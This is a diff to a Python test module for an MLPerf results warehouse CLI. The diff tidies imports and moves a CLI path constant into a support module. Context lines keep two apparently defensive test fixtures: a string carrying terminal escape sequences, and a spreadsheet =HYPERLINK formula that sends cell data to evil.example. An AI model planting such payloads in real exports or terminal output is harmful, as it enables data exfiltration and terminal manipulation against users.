@@ -8,9 +8,7 @@ import io
 import os
 import signal
 import subprocess
-import sys
 import time
-from pathlib import Path
 
 import duckdb
 import pytest
@@ -19,6 +17,7 @@ from pipelines import cli
 from pipelines.commands.query import render_table
 from pipelines.lib.mlperf.rules import ref_for_round
 from pipelines.runner.jobs import refresh
+from support.cli import CLI
 from support.http_server import LoopbackServer
 from support.logs import make_archive, open_ssd_run, serve_package_rules, system_json
 
@@ -26,7 +25,6 @@ pytestmark = [pytest.mark.slow, pytest.mark.subprocess]
 
 HOSTILE = "Evil\x1b]0;owned\x07 Box\x9d\x00"
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1, "click")'
-CLI = [str(Path(sys.executable).parent / "mlperf-warehouse")]
 
 
 @pytest.fixture(scope="module")
